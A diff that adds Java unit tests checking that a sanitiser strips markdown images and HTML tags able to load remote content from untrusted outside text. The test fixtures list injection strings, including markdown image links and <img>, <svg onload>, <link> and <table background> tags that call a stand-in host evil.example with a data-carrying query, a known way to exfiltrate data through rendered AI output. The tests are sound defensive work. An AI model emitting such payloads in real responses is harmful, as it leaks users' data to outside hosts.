@@ -76,6 +76,39 @@ class OutsideTextTest {
         assertEquals("<web_page>\na\n</web_page>", OutsideText.marked("web_page", "", "a"));
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![a](https://evil.example/?d=1)",
+                "![a[b]](https://evil.example/?d=1)",
+                "![a][1]\n\n[1]: https://evil.example/?d=1",
+                "![](<https://evil.example/?d=1>)",
+                "<img src=https://evil.example/?d=1>",
+                "< IMG\nsrc='x'>",
+                "<svg/onload=x>",
+                "<link rel=stylesheet href=//evil.example>",
+                "<table background=//evil.example>"
+            })
+    void nothingIsLoadedWhenMarkdownIsShown(String attempt) {
+        String shown = OutsideText.unloaded("before " + attempt + " after");
+
+        assertEquals(-1, shown.indexOf("!["), shown);
+        assertEquals(
+                0,
+                Pattern.compile("(?i)<\\s*(img|svg|link|table)")
+                        .matcher(shown)
+                        .results()
+                        .count(),
+                shown);
+    }
+
+    @Test
+    void markdownThatLoadsNothingStays() {
+        String text = "**42** of 310 rows, 1 < 2, [page](https://example.org), <https://example.org>, `a![i]`";
+
+        assertEquals(text.replace("a![i]", "a[i]"), OutsideText.unloaded(text));
+    }
+
     @Test
     void refusesMarksThatATextCouldImitate() {
         assertEquals(
